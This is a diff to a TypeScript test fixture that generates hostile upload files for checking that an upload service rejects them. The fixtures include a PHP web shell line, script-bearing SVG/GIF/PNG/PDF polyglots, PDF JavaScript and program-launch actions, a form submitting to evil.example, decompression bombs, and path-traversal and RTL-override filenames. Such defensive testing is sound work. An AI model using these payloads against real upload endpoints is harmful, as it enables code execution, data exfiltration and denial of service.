@@ -16,7 +16,8 @@ interface Dict {
   [key: string]: string | number | PDFString | Dict | number[] | [];
 }
 /** pdf-lib's `obj` for a dictionary literal (its overloads end on the array one). */
-const dictOf = (context: PDFContext, literal: Dict): PDFDict => (context.obj.bind(context) as (l: Dict) => PDFDict)(literal);
+const dictOf = (context: PDFContext, literal: Dict): PDFDict =>
+  (context.obj.bind(context) as (l: Dict) => PDFDict)(literal);
 import { GIF_1PX, PNG_1PX, makeBmp, makeJpeg, makePdf, makeTiff } from './documents.js';
 
 export interface HostileFile {
@@ -42,7 +43,12 @@ export const REASON = {
 } as const;
 
 const MB = 1024 * 1024;
-export const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(60), Buffer.from('This program cannot be run in DOS mode'), randomBytes(2000)]);
+export const MZ = Buffer.concat([
+  Buffer.from('MZ'),
+  Buffer.alloc(60),
+  Buffer.from('This program cannot be run in DOS mode'),
+  randomBytes(2000),
+]);
 const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/dossiers")</script></body></html>');
 const PHP = Buffer.from('<?php system($_GET["c"]); ?>');
 
@@ -90,7 +96,13 @@ function pngOf(width: number, height: number, idat: Buffer, extra: Buffer[] = []
   ihdr.writeUInt32BE(height, 4);
   ihdr[8] = 8;
   ihdr[9] = 0;
-  return Buffer.concat([PNG_1PX.subarray(0, 8), pngChunk('IHDR', ihdr), ...extra, pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_1PX.subarray(0, 8),
+    pngChunk('IHDR', ihdr),
+    ...extra,
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** Zeros compressed: a few hundred KB that inflate to `size` bytes. */
@@ -125,17 +137,31 @@ export function rawPdf(objects: Array<string | Buffer>): Buffer {
   const offsets: number[] = [];
   objects.forEach((body, i) => {
     offsets.push(size);
-    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
+    const chunk = Buffer.concat([
+      Buffer.from(`${i + 1} 0 obj\n`),
+      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
+      Buffer.from('\nendobj\n'),
+    ]);
     parts.push(chunk);
     size += chunk.length;
   });
-  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
-  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'));
+  const xref = [
+    `xref\n0 ${objects.length + 1}\n`,
+    '0000000000 65535 f \n',
+    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
+  ].join('');
+  parts.push(
+    Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'),
+  );
   return Buffer.concat(parts);
 }
 
 function streamObject(dict: string, data: Buffer): Buffer {
-  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
+  return Buffer.concat([
+    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
+    data,
+    Buffer.from('\nendstream', 'latin1'),
+  ]);
 }
 
 /** An object stream holding `objects` (numbered from `first`), compressed. */
@@ -148,7 +174,10 @@ function objectStream(first: number, objects: string[]): Buffer {
   }
   const head = `${header.join(' ')}\n`;
   const body = Buffer.from(head + objects.join('\n') + '\n', 'latin1');
-  return streamObject(`/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`, deflateSync(body));
+  return streamObject(
+    `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`,
+    deflateSync(body),
+  );
 }
 
 const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
@@ -158,7 +187,15 @@ async function encryptedPdf(): Promise<Buffer> {
   const dir = await mkdtemp(path.join(os.tmpdir(), 'guichet-hostile-'));
   try {
     await writeFile(path.join(dir, 'plain.pdf'), await makePdf(1));
-    execFileSync('qpdf', ['--encrypt', 'user-pass', 'owner-pass', '256', '--', path.join(dir, 'plain.pdf'), path.join(dir, 'locked.pdf')]);
+    execFileSync('qpdf', [
+      '--encrypt',
+      'user-pass',
+      'owner-pass',
+      '256',
+      '--',
+      path.join(dir, 'plain.pdf'),
+      path.join(dir, 'locked.pdf'),
+    ]);
     return await readFile(path.join(dir, 'locked.pdf'));
   } finally {
     await rm(dir, { recursive: true, force: true });
@@ -168,7 +205,15 @@ async function encryptedPdf(): Promise<Buffer> {
 /** A PDF whose one page draws an image stream inflating to `inflated` bytes. */
 export async function deflateBombPdf(inflated = 1024 * MB): Promise<Buffer> {
   return onePagePdf((doc) => {
-    const bomb = doc.context.stream(zeros(inflated), { Type: 'XObject', Subtype: 'Image', Width: 1, Height: 1, BitsPerComponent: 8, ColorSpace: 'DeviceGray', Filter: 'FlateDecode' });
+    const bomb = doc.context.stream(zeros(inflated), {
+      Type: 'XObject',
+      Subtype: 'Image',
+      Width: 1,
+      Height: 1,
+      BitsPerComponent: 8,
+      ColorSpace: 'DeviceGray',
+      Filter: 'FlateDecode',
+    });
     doc.getPage(0).node.setXObject(PDFName.of('Bomb'), doc.context.register(bomb));
   });
 }
@@ -205,7 +250,13 @@ function tiffOf(width: number, height: number): Buffer {
   return tiff;
 }
 
-const same = (filename: string, content: Buffer, reason: string, title: string): HostileFile => ({ title, filename, content, shown: filename, reason });
+const same = (filename: string, content: Buffer, reason: string, title: string): HostileFile => ({
+  title,
+  filename,
+  content,
+  shown: filename,
+  reason,
+});
 
 /** Every hostile file, each refused by every upload route. */
 export async function hostileFiles(): Promise<HostileFile[]> {
@@ -218,43 +269,165 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     same('scan.png', pdf, REASON.content('PNG'), 'a PDF behind a .png name'),
     same('archive.pdf', makeZip(), REASON.content('PDF'), 'a ZIP behind a .pdf name'),
     same('page.pdf', HTML, REASON.content('PDF'), 'HTML behind a .pdf name'),
-    same('anim.gif', Buffer.from('GIF89a=1;alert(document.domain);//;'), REASON.content('GIF'), 'a GIF/JavaScript polyglot'),
+    same(
+      'anim.gif',
+      Buffer.from('GIF89a=1;alert(document.domain);//;'),
+      REASON.content('GIF'),
+      'a GIF/JavaScript polyglot',
+    ),
     same('fax.tif', makeBmp(), REASON.content('TIFF'), 'BMP bytes behind a .tif name'),
     same('image.bmp', GIF_1PX, REASON.content('BMP'), 'GIF bytes behind a .bmp name'),
     // ---- kinds not accepted at all ----
-    same('logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), REASON.type, 'an SVG'),
+    same(
+      'logo.svg',
+      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+      REASON.type,
+      'an SVG',
+    ),
     same('index.html', HTML, REASON.type, 'an HTML page'),
     same('shell.php', PHP, REASON.type, 'a PHP script'),
     same('scan.pdf.exe', MZ, REASON.type, 'a double extension ending in .exe'),
     same('document', pdf, REASON.type, 'a name without extension'),
     // ---- polyglots ----
-    same('photo.jpg', Buffer.concat([jpeg, PHP, Buffer.from([0xff, 0xd9])]), REASON.active, 'a JPEG with a PHP tail (and an end marker after it)'),
+    same(
+      'photo.jpg',
+      Buffer.concat([jpeg, PHP, Buffer.from([0xff, 0xd9])]),
+      REASON.active,
+      'a JPEG with a PHP tail (and an end marker after it)',
+    ),
     same('photo2.jpg', Buffer.concat([jpeg, HTML]), REASON.active, 'a JPEG with HTML appended'),
-    same('photo3.jpg', Buffer.concat([jpeg, makeZip(), Buffer.from([0xff, 0xd9])]), REASON.content('JPEG'), 'a JPEG with a ZIP inside before its end marker'),
+    same(
+      'photo3.jpg',
+      Buffer.concat([jpeg, makeZip(), Buffer.from([0xff, 0xd9])]),
+      REASON.content('JPEG'),
+      'a JPEG with a ZIP inside before its end marker',
+    ),
     same('image.png', Buffer.concat([PNG_1PX, makeZip()]), REASON.content('PNG'), 'a PNG with a ZIP appended'),
-    same('texte.png', pngOf(1, 1, deflateSync(Buffer.from([0, 0])), [pngChunk('tEXt', Buffer.from('Comment\0<html><script>alert(1)</script></html>'))]), REASON.active, 'HTML inside a PNG text chunk'),
-    same('anim2.gif', Buffer.concat([GIF_1PX.subarray(0, GIF_1PX.length - 1), Buffer.from([0x21, 0xfe, 0x10]), Buffer.from('<script>x</script'.slice(0, 16)), Buffer.from([0x00, 0x3b])]), REASON.active, 'a script in a GIF comment'),
-    same('contrat.pdf', Buffer.concat([pdf, makeZip(), Buffer.from('\n%%EOF\n')]), REASON.content('PDF'), 'a PDF with a ZIP appended (and %%EOF after it)'),
-    same('polyglotte.pdf', Buffer.concat([pdf.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script>\n'), pdf.subarray(9)]), REASON.active, 'a PDF/HTML polyglot'),
+    same(
+      'texte.png',
+      pngOf(1, 1, deflateSync(Buffer.from([0, 0])), [
+        pngChunk('tEXt', Buffer.from('Comment\0<html><script>alert(1)</script></html>')),
+      ]),
+      REASON.active,
+      'HTML inside a PNG text chunk',
+    ),
+    same(
+      'anim2.gif',
+      Buffer.concat([
+        GIF_1PX.subarray(0, GIF_1PX.length - 1),
+        Buffer.from([0x21, 0xfe, 0x10]),
+        Buffer.from('<script>x</script'.slice(0, 16)),
+        Buffer.from([0x00, 0x3b]),
+      ]),
+      REASON.active,
+      'a script in a GIF comment',
+    ),
+    same(
+      'contrat.pdf',
+      Buffer.concat([pdf, makeZip(), Buffer.from('\n%%EOF\n')]),
+      REASON.content('PDF'),
+      'a PDF with a ZIP appended (and %%EOF after it)',
+    ),
+    same(
+      'polyglotte.pdf',
+      Buffer.concat([pdf.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script>\n'), pdf.subarray(9)]),
+      REASON.active,
+      'a PDF/HTML polyglot',
+    ),
     same('scan.bmp', Buffer.concat([makeBmp(), makeZip()]), REASON.content('BMP'), 'a BMP with a ZIP appended'),
     // ---- PDFs that run code or carry files ----
-    same('formulaire.pdf', await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })), REASON.active, 'a PDF with /OpenAction JavaScript'),
-    same('lanceur.pdf', await onePagePdf((d) => openAction(d, { S: 'Launch', F: PDFString.of('calc.exe') }), true), REASON.active, 'a PDF launching a program, in an object stream'),
-    same('objstm.pdf', await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(2)') }), true), REASON.active, 'JavaScript in an object stream (pdf-lib)'),
+    same(
+      'formulaire.pdf',
+      await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
+      REASON.active,
+      'a PDF with /OpenAction JavaScript',
+    ),
+    same(
+      'lanceur.pdf',
+      await onePagePdf((d) => openAction(d, { S: 'Launch', F: PDFString.of('calc.exe') }), true),
+      REASON.active,
+      'a PDF launching a program, in an object stream',
+    ),
+    same(
+      'objstm.pdf',
+      await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(2)') }), true),
+      REASON.active,
+      'JavaScript in an object stream (pdf-lib)',
+    ),
     same(
       'cache.pdf',
-      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, objectStream(5, ['<< /S /J#61vaScript /J#53 (app.alert(3)) >>']), '<< /Type /XRef >>']),
+      rawPdf([
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        PAGES,
+        PAGE,
+        objectStream(5, ['<< /S /J#61vaScript /J#53 (app.alert(3)) >>']),
+        '<< /Type /XRef >>',
+      ]),
       REASON.active,
       '#xx-escaped JavaScript inside a hand-made object stream',
     ),
-    same('echappe.pdf', rawPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, '<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (app.alert(4)) >>']), REASON.active, 'a fully #xx-escaped /JavaScript'),
-    same('lien.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Link', A: { S: 'JavaScript', JS: PDFString.of('app.alert(5)') } })), REASON.active, 'a link annotation running JavaScript'),
-    same('lien2.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe') } }), true), REASON.active, 'an annotation launching a program, in an object stream'),
-    same('envoi.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Widget', A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') } })), REASON.active, 'a widget submitting the form elsewhere'),
-    same('import.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Widget', A: { S: 'ImportData', F: PDFString.of('data.fdf') } })), REASON.active, 'a widget importing data'),
-    same('uri.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('javascript:alert(6)') } })), REASON.active, 'a javascript: link'),
-    same('media.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'RichMedia' })), REASON.active, 'a RichMedia (Flash) annotation'),
-    same('actions.pdf', await onePagePdf((d) => annotate(d, { Subtype: 'Widget', AA: { Fo: { S: 'JavaScript', JS: PDFString.of('app.alert(7)') } } }), true), REASON.active, 'additional actions on a widget, in an object stream'),
+    same(
+      'echappe.pdf',
+      rawPdf([
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
+        PAGES,
+        PAGE,
+        '<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (app.alert(4)) >>',
+      ]),
+      REASON.active,
+      'a fully #xx-escaped /JavaScript',
+    ),
+    same(
+      'lien.pdf',
+      await onePagePdf((d) =>
+        annotate(d, { Subtype: 'Link', A: { S: 'JavaScript', JS: PDFString.of('app.alert(5)') } }),
+      ),
+      REASON.active,
+      'a link annotation running JavaScript',
+    ),
+    same(
+      'lien2.pdf',
+      await onePagePdf((d) => annotate(d, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe') } }), true),
+      REASON.active,
+      'an annotation launching a program, in an object stream',
+    ),
+    same(
+      'envoi.pdf',
+      await onePagePdf((d) =>
+        annotate(d, { Subtype: 'Widget', A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') } }),
+      ),
+      REASON.active,
+      'a widget submitting the form elsewhere',
+    ),
+    same(
+      'import.pdf',
+      await onePagePdf((d) => annotate(d, { Subtype: 'Widget', A: { S: 'ImportData', F: PDFString.of('data.fdf') } })),
+      REASON.active,
+      'a widget importing data',
+    ),
+    same(
+      'uri.pdf',
+      await onePagePdf((d) =>
+        annotate(d, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('javascript:alert(6)') } }),
+      ),
+      REASON.active,
+      'a javascript: link',
+    ),
+    same(
+      'media.pdf',
+      await onePagePdf((d) => annotate(d, { Subtype: 'RichMedia' })),
+      REASON.active,
+      'a RichMedia (Flash) annotation',
+    ),
+    same(
+      'actions.pdf',
+      await onePagePdf(
+        (d) => annotate(d, { Subtype: 'Widget', AA: { Fo: { S: 'JavaScript', JS: PDFString.of('app.alert(7)') } } }),
+        true,
+      ),
+      REASON.active,
+      'additional actions on a widget, in an object stream',
+    ),
     same(
       'xfa.pdf',
       await onePagePdf((d) => {
@@ -291,25 +464,80 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       'an action opening an embedded document',
     ),
     same('protege.pdf', await encryptedPdf(), REASON.encrypted, 'an encrypted PDF (qpdf, AES-256)'),
-    same('casse.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(randomBytes(4000).map((b) => (b === 0x3c || b === 0x3a || b === 0x2f ? 0x20 : b))), Buffer.from('\n%%EOF\n')]), REASON.corrupt, 'a corrupt PDF'),
+    same(
+      'casse.pdf',
+      Buffer.concat([
+        Buffer.from('%PDF-1.7\n'),
+        Buffer.from(randomBytes(4000).map((b) => (b === 0x3c || b === 0x3a || b === 0x2f ? 0x20 : b))),
+        Buffer.from('\n%%EOF\n'),
+      ]),
+      REASON.corrupt,
+      'a corrupt PDF',
+    ),
     // ---- bombs ----
     same('bombe.pdf', await deflateBombPdf(), REASON.bomb, 'a PDF deflate bomb (1 GB of zeros)'),
-    same('geante.png', pngOf(100_000, 100_000, deflateSync(Buffer.alloc(1000))), REASON.bomb, 'a PNG declaring 100,000 × 100,000 pixels'),
+    same(
+      'geante.png',
+      pngOf(100_000, 100_000, deflateSync(Buffer.alloc(1000))),
+      REASON.bomb,
+      'a PNG declaring 100,000 × 100,000 pixels',
+    ),
     same('zip.png', pngOf(1000, 1000, zeros(256 * MB)), REASON.bomb, 'a PNG whose pixel data inflates to 256 MB'),
     same('geante.gif', gifOf(65_535, 65_535), REASON.bomb, 'a GIF declaring 65,535 × 65,535'),
     same('geante.jpg', jpegWithFrame(65_535, 65_535), REASON.bomb, 'a JPEG frame of 65,535 × 65,535'),
     same('geante.bmp', bmpOf(100_000, -100_000), REASON.bomb, 'a BMP of 100,000 × 100,000'),
     same('geante.tif', tiffOf(200_000, 200_000), REASON.bomb, 'a TIFF of 200,000 × 200,000'),
     // ---- names ----
-    { title: 'a path-traversal name', filename: '../../../etc/cron.d/evil.pdf', content: pdf, shown: 'evil.pdf', reason: REASON.name },
-    { title: 'a Windows path-traversal name', filename: '..\\..\\Windows\\evil.pdf', content: pdf, shown: 'evil.pdf', reason: REASON.name },
-    { title: 'a right-to-left override hiding .exe', filename: 'facture\u202Efdp.exe', content: MZ, shown: 'facturefdp.exe', reason: REASON.type },
-    { title: 'a first-strong isolate hiding .exe', filename: 'photo\u2068gpj.exe\u2069', content: MZ, shown: 'photogpj.exe', reason: REASON.type },
-    { title: 'control characters around an executable', filename: 'scan\u0000\u0007.pdf\u0001.exe', content: MZ, shown: 'scan.pdf.exe', reason: REASON.type },
-    { title: 'a name of control characters only', filename: '\u0001\u0002\u200e', content: pdf, shown: '?', reason: REASON.name },
+    {
+      title: 'a path-traversal name',
+      filename: '../../../etc/cron.d/evil.pdf',
+      content: pdf,
+      shown: 'evil.pdf',
+      reason: REASON.name,
+    },
+    {
+      title: 'a Windows path-traversal name',
+      filename: '..\\..\\Windows\\evil.pdf',
+      content: pdf,
+      shown: 'evil.pdf',
+      reason: REASON.name,
+    },
+    {
+      title: 'a right-to-left override hiding .exe',
+      filename: 'facture\u202Efdp.exe',
+      content: MZ,
+      shown: 'facturefdp.exe',
+      reason: REASON.type,
+    },
+    {
+      title: 'a first-strong isolate hiding .exe',
+      filename: 'photo\u2068gpj.exe\u2069',
+      content: MZ,
+      shown: 'photogpj.exe',
+      reason: REASON.type,
+    },
+    {
+      title: 'control characters around an executable',
+      filename: 'scan\u0000\u0007.pdf\u0001.exe',
+      content: MZ,
+      shown: 'scan.pdf.exe',
+      reason: REASON.type,
+    },
+    {
+      title: 'a name of control characters only',
+      filename: '\u0001\u0002\u200e',
+      content: pdf,
+      shown: '?',
+      reason: REASON.name,
+    },
     // ---- sizes ----
     same('vide.pdf', Buffer.alloc(0), REASON.empty, 'an empty file'),
-    same('gros.pdf', Buffer.concat([pdf, Buffer.alloc(10 * MB + 1 - pdf.length, 0x20)]), REASON.tooLarge, '10 MB + 1 byte'),
+    same(
+      'gros.pdf',
+      Buffer.concat([pdf, Buffer.alloc(10 * MB + 1 - pdf.length, 0x20)]),
+      REASON.tooLarge,
+      '10 MB + 1 byte',
+    ),
   ];
   return files;
 }
@@ -325,4 +553,3 @@ export function sanitizedNames(): Array<{ filename: string; stored: string }> {
     { filename: 'lpt1.pdf', stored: '_lpt1.pdf' },
   ];
 }
-
